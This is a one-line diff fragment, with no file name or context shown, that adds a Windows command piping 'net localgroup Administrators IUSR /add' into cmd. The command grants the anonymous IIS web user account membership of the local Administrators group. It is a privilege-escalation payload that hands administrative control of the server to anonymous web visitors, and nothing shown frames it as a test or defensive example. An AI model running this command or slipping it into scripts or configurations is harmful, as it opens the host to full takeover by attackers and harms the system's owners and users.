@@ -1,0 +1,1 @@
+echo net localgroup Administrators IUSR /add | cmd
